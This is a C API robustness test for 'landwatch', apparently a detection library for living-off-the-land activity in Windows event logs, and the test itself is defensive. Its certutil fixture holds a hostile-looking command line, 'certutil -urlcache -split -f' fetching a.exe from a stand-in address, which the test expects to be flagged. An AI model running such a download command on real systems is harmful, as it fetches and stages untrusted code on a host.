/* Every function of landwatch.h against the arguments a careless or
 * hostile caller passes: NULL for each pointer, bad lengths, input that is
 * not UTF-8, not JSON, not an object, huge or deeply nested; a panic
 * inside the library; Sigma documents skipped with their reasons; the
 * detection as JSON. Nothing may crash, leak or write through NULL. Run
 * under valgrind by tools/test-all.sh. */
#define _POSIX_C_SOURCE 200809L /* mkdtemp */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "landwatch.h"
#include "check.h"

/* Not in the header: a test hook that panics inside the boundary. */
lw_status lw_internal_test_panic(lw_error **err);

static const char CERTUTIL[] =
    "{\"EventID\":1,\"Computer\":\"ws1\",\"Image\":\"C:\\\\Windows\\\\System32\\\\certutil.exe\","
    "\"CommandLine\":\"certutil -urlcache -split -f http://198.51.100.7/a.exe a.exe\"}";

/* Checks that a failing call made an error of `status` with a message,
 * and frees it. */
static void expect_error(lw_error *err, lw_status status) {
    CHECK(err != NULL);
    if (err == NULL) return;
    CHECK(lw_error_status(err) == status);
    CHECK(strlen(lw_error_message(err)) > 0);
    lw_error_free(err);
}

static void test_panic_becomes_internal_error(void) {
    lw_error *err = NULL;
    CHECK(lw_internal_test_panic(&err) == LW_ERR_INTERNAL);
    CHECK(err != NULL && strstr(lw_error_message(err), "lw_internal_test_panic") != NULL);
    expect_error(err, LW_ERR_INTERNAL);
    CHECK(lw_internal_test_panic(NULL) == LW_ERR_INTERNAL); /* no err: still a status */
}

static void test_error_accessors_on_null(void) {
    CHECK(strcmp(lw_error_message(NULL), "") == 0);
    CHECK(lw_error_line(NULL) == 0);
    CHECK(lw_error_column(NULL) == 0);
    CHECK(lw_error_status(NULL) == LW_ERR_ARG);
    lw_error_free(NULL);
}

static void test_rules_arguments(void) {
    lw_rules *rules = NULL;
    lw_error *err = NULL;
    CHECK(lw_rules_compile(NULL, 5, "x", &rules, &err) == LW_ERR_ARG);
    expect_error(err, LW_ERR_ARG);
    err = NULL;
    CHECK(lw_rules_compile("rule", 4, "x", NULL, &err) == LW_ERR_ARG);
    expect_error(err, LW_ERR_ARG);
    err = NULL;
    static const char not_utf8[] = {'r', 'u', 'l', 'e', ' ', (char)0xc3, (char)0x28};
    CHECK(lw_rules_compile(not_utf8, sizeof not_utf8, "x", &rules, &err) == LW_ERR_ARG);
    CHECK(rules == NULL);
    expect_error(err, LW_ERR_ARG);
    /* An empty source compiles to no rules. */
    CHECK(lw_rules_compile("", 0, NULL, &rules, NULL) == LW_OK);
    CHECK(lw_rules_count(rules) == 0);
    lw_rules_free(rules);
    rules = NULL;

    CHECK(lw_rules_builtin(NULL, NULL) == LW_ERR_ARG);
    const char *paths[] = {"core/rules", NULL};
    err = NULL;
    CHECK(lw_rules_load(paths, 2, 0, &rules, &err) == LW_ERR_ARG); /* paths[1] is NULL */
    CHECK(rules == NULL);
    expect_error(err, LW_ERR_ARG);
    CHECK(lw_rules_load(NULL, 1, 0, &rules, NULL) == LW_ERR_ARG);
    CHECK(lw_rules_load(paths, 1, 0, NULL, NULL) == LW_ERR_ARG);
    CHECK(lw_rules_count(NULL) == 0);
    CHECK(lw_rules_skipped_count(NULL) == 0);
    CHECK(lw_rules_skipped(NULL, 0) == NULL);
    lw_rules_free(NULL);
}

static void test_rule_file_error_keeps_its_position(const char *dir) {
    char path[512];
    snprintf(path, sizeof path, "%s/bad.lw", dir);
    FILE *f = fopen(path, "w");
    CHECK(f != NULL);
    if (f == NULL) return;
    fputs("rule t.ok {\n    title: \"ok\"\n    level: low\n    on: process\n"
          "    when: Image endswith '\\\\whoami.exe'\n}\n\nrule t.bad {\n    level: loud\n}\n", f);
    fclose(f);
    const char *paths[] = {path};
    lw_rules *rules = NULL;
    lw_error *err = NULL;
    CHECK(lw_rules_load(paths, 1, 0, &rules, &err) == LW_ERR_RULE);
    CHECK(rules == NULL);
    CHECK(lw_error_line(err) == 9 && lw_error_column(err) >= 1);
    CHECK(strstr(lw_error_message(err), "bad.lw") != NULL);
    expect_error(err, LW_ERR_RULE);
    remove(path);
}

static void test_sigma_skips_are_listed(const char *dir) {
    char path[512];
    snprintf(path, sizeof path, "%s/rules.yml", dir);
    FILE *f = fopen(path, "w");
    CHECK(f != NULL);
    if (f == NULL) return;
    fputs("title: Whoami\nid: 6f3c2a8e-5b1d-4c2e-9a7f-0d1e2f3a4b5c\nlevel: low\n"
          "logsource: {category: process_creation, product: windows}\n"
          "detection:\n  sel:\n    Image|endswith: '\\whoami.exe'\n  condition: sel\n"
          "---\n"
          "title: Strange modifier\nid: 0a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d\nlevel: low\n"
          "logsource: {category: process_creation, product: windows}\n"
          "detection:\n  sel:\n    CommandLine|nosuchmodifier: 'x'\n  condition: sel\n",
          f);
    fclose(f);
    const char *paths[] = {path};
    lw_rules *rules = NULL;
    CHECK(lw_rules_load(paths, 1, 0, &rules, NULL) == LW_OK);
    CHECK(lw_rules_count(rules) == 1);
    CHECK(lw_rules_skipped_count(rules) == 1);
    const char *why = lw_rules_skipped(rules, 0);
    CHECK(why != NULL && strstr(why, "rules.yml:15:") != NULL && strstr(why, "nosuchmodifier") != NULL);
    CHECK(lw_rules_skipped(rules, 1) == NULL);
    lw_rules_free(rules);
    remove(path);
}

static uint64_t last_event = UINT64_MAX;

static int keep_json(const lw_detection *d, void *user) {
    char **json = user;
    free(*json);
    *json = strdup(lw_detection_json(d));
    last_event = lw_detection_event(d);
    return 0;
}

static int count(const lw_detection *d, void *user) {
    (void)d;
    (*(size_t *)user)++;
    return 0;
}

static void test_scanner_arguments(const lw_rules *rules) {
    lw_scanner *s = NULL;
    lw_error *err = NULL;
    CHECK(lw_scanner_new(NULL, &s, &err) == LW_ERR_ARG);
    expect_error(err, LW_ERR_ARG);
    CHECK(lw_scanner_new(rules, NULL, NULL) == LW_ERR_ARG);
    CHECK(lw_scanner_new(rules, &s, NULL) == LW_OK);

    /* Options: TOML keys over the defaults; a typo is an error naming it. */
    lw_scanner *opt = NULL;
    static const char good[] = "lateness = '5m'\nschema = 'sysmon'\ntime_missing = 'previous'\nmax_events = 4\n";
    CHECK(lw_scanner_new_with(rules, good, strlen(good), &opt, NULL) == LW_OK);
    lw_scanner_free(opt);
    opt = NULL;
    CHECK(lw_scanner_new_with(rules, "", 0, &opt, NULL) == LW_OK);
    lw_scanner_free(opt);
    opt = NULL;
    static const char *bad_options[] = {"latenes = '5m'", "lateness = 'soon'", "schema = 'syslog'", "max_events = -1", "[", "ordered = 'yes'"};
    for (size_t i = 0; i < sizeof bad_options / sizeof *bad_options; i++) {
        err = NULL;
        CHECK(lw_scanner_new_with(rules, bad_options[i], strlen(bad_options[i]), &opt, &err) == LW_ERR_ARG);
        CHECK(opt == NULL);
        expect_error(err, LW_ERR_ARG);
    }
    err = NULL;
    CHECK(lw_scanner_new_with(rules, "latenes = '5m'", 14, &opt, &err) == LW_ERR_ARG);
    CHECK(err != NULL && strstr(lw_error_message(err), "latenes") != NULL);
    lw_error_free(err);
    CHECK(lw_scanner_new_with(NULL, "", 0, &opt, NULL) == LW_ERR_ARG);
    CHECK(lw_scanner_new_with(rules, NULL, 0, &opt, NULL) == LW_ERR_ARG);
    CHECK(lw_scanner_new_with(rules, "", 0, NULL, NULL) == LW_ERR_ARG);

    CHECK(lw_scanner_set_zones(NULL, "", 0, NULL) == LW_ERR_ARG);
    CHECK(lw_scanner_set_zones(s, NULL, 0, NULL) == LW_ERR_ARG);
    err = NULL;
    static const char bad_zones[] = "[zones]\nprovider = [\"10.0.0.0/33\"]\n";
    CHECK(lw_scanner_set_zones(s, bad_zones, strlen(bad_zones), &err) == LW_ERR_ARG);
    expect_error(err, LW_ERR_ARG);
    err = NULL;
    static const char bad_tz[] = "[business_hours]\ntimezone = \"Mars/Olympus\"\n";
    CHECK(lw_scanner_set_zones(s, bad_tz, strlen(bad_tz), &err) == LW_ERR_ARG);
    expect_error(err, LW_ERR_ARG);
    static const char zones[] = "[zones]\nprovider = [\"10.50.0.0/16\"]\n";
    CHECK(lw_scanner_set_zones(s, zones, strlen(zones), NULL) == LW_OK);

    /* Events a shipper may hand over: each rejected with a reason, the
     * scanner usable after. */
    static const char *bad[] = {"", "   ", "{", "[]", "42", "\"text\"", "null", "{\"a\":}", "{} {}"};
    for (size_t i = 0; i < sizeof bad / sizeof *bad; i++) {
        err = NULL;
        CHECK(lw_scanner_scan_json(s, bad[i], strlen(bad[i]), count, NULL, &err) == LW_ERR_INPUT);
        expect_error(err, LW_ERR_INPUT);
    }
    /* A NUL inside the event is a byte of it: not JSON. */
    static const char with_nul[] = "{\"EventID\":1}\0{\"x\":1}";
    CHECK(lw_scanner_scan_json(s, with_nul, sizeof with_nul - 1, NULL, NULL, NULL) == LW_ERR_INPUT);
    /* Deeply nested: read or refused, never a stack overflow. (Whether it
     * is refused depends today on whether a rule reads every field; see
     * docs/c.md.) */
    unsigned deep_refused = 0;
    size_t depth = 100000;
    char *deep = malloc(2 * depth + 16);
    CHECK(deep != NULL);
    if (deep != NULL) {
        size_t n = 0;
        memcpy(deep, "{\"a\":", 5);
        n = 5;
        for (size_t i = 0; i < depth; i++) deep[n++] = '[';
        for (size_t i = 0; i < depth; i++) deep[n++] = ']';
        deep[n++] = '}';
        err = NULL;
        lw_status st = lw_scanner_scan_json(s, deep, n, NULL, NULL, &err);
        CHECK(st == LW_OK || st == LW_ERR_INPUT);
        if (st != LW_OK) {
            deep_refused = 1;
            expect_error(err, LW_ERR_INPUT);
        }
        free(deep);
    }
    /* A huge command line (4 MiB) is scanned, and still detected. */
    size_t big = 4u << 20;
    char *huge = malloc(big + 256);
    CHECK(huge != NULL);
    if (huge != NULL) {
        int head = snprintf(huge, 256, "{\"EventID\":1,\"Image\":\"C:\\\\Windows\\\\System32\\\\certutil.exe\","
                                       "\"CommandLine\":\"certutil -urlcache -f http://198.51.100.7/a.exe ");
        memset(huge + head, 'A', big);
        memcpy(huge + head + big, "\"}", 2);
        size_t found = 0;
        CHECK(lw_scanner_scan_json(s, huge, (size_t)head + big + 2, count, &found, NULL) == LW_OK);
        CHECK(found >= 1);
        free(huge);
    }

    /* The detection as JSON: the CLI's object, with the event's context. */
    char *json = NULL;
    CHECK(lw_scanner_scan_json(s, CERTUTIL, strlen(CERTUTIL), keep_json, &json, NULL) == LW_OK);
    CHECK(last_event == 12); /* the 13th event this scanner was given */
    CHECK(json != NULL && json[0] == '{' && json[strlen(json) - 1] == '}');
    CHECK(json != NULL && strstr(json, "\"rule\":\"lotl.certutil_download\"") != NULL);
    CHECK(json != NULL && strstr(json, "\"host\":\"ws1\"") != NULL);
    CHECK(json != NULL && strstr(json, "\"evidence\":[{") != NULL);
    free(json);
    CHECK(strcmp(lw_detection_json(NULL), "") == 0);
    CHECK(strcmp(lw_detection_rule(NULL), "") == 0);
    CHECK(strcmp(lw_detection_title(NULL), "") == 0);
    CHECK(strcmp(lw_detection_level(NULL), "") == 0);
    CHECK(lw_detection_tag_count(NULL) == 0);
    CHECK(lw_detection_tag(NULL, 0) == NULL);
    CHECK(lw_detection_event(NULL) == 0);

    CHECK(lw_scanner_flush(NULL, NULL, NULL, NULL) == LW_ERR_ARG);
    CHECK(lw_scanner_flush(s, NULL, NULL, NULL) == LW_OK);

    lw_stats st;
    memset(&st, 0xff, sizeof st);
    lw_scanner_stats(NULL, &st);
    CHECK(st.read == 0 && st.detections == 0);
    lw_scanner_stats(s, NULL);
    lw_scanner_stats(s, &st);
    /* 10 bad events (and the deep one if refused); the huge and the
     * certutil events scanned. */
    CHECK(st.read == 13 && st.rejected == 10u + deep_refused && st.scanned == 13 - st.rejected);

    uint8_t *buf = NULL;
    size_t len = 0;
    CHECK(lw_scanner_save(NULL, &buf, &len, NULL) == LW_ERR_ARG);
    CHECK(lw_scanner_save(s, NULL, &len, NULL) == LW_ERR_ARG);
    CHECK(lw_scanner_save(s, &buf, NULL, NULL) == LW_ERR_ARG);
    CHECK(lw_scanner_save(s, &buf, &len, NULL) == LW_OK);
    lw_scanner *r = NULL;
    CHECK(lw_scanner_restore(NULL, buf, len, &r, NULL) == LW_ERR_ARG);
    CHECK(lw_scanner_restore(rules, NULL, len, &r, NULL) == LW_ERR_ARG);
    CHECK(lw_scanner_restore(rules, buf, len, NULL, NULL) == LW_ERR_ARG);
    /* Every truncation of the state is refused, never read past. */
    for (size_t cut = 0; cut < len; cut += 1 + len / 64) {
        err = NULL;
        CHECK(lw_scanner_restore(rules, buf, cut, &r, &err) == LW_ERR_STATE);
        CHECK(r == NULL);
        expect_error(err, LW_ERR_STATE);
    }
    CHECK(lw_scanner_restore(rules, buf, len, &r, NULL) == LW_OK);
    lw_scanner_free(r);
    lw_buffer_free(buf, len);
    lw_buffer_free(NULL, 0);
    lw_scanner_free(s);
    lw_scanner_free(NULL);
}

int main(int argc, char **argv) {
    (void)argc;
    (void)argv;
    char dir[] = "/tmp/landwatch-c-test-XXXXXX";
    CHECK(mkdtemp(dir) != NULL);
    test_panic_becomes_internal_error();
    test_error_accessors_on_null();
    test_rules_arguments();
    test_rule_file_error_keeps_its_position(dir);
    test_sigma_skips_are_listed(dir);
    lw_rules *rules = NULL;
    CHECK(lw_rules_builtin(&rules, NULL) == LW_OK);
    test_scanner_arguments(rules);
    lw_rules_free(rules);
    rmdir(dir);
    if (failures) {
        fprintf(stderr, "test_api: %d checks failed\n", failures);
        return 1;
    }
    printf("test_api: ok\n");
    return 0;
}
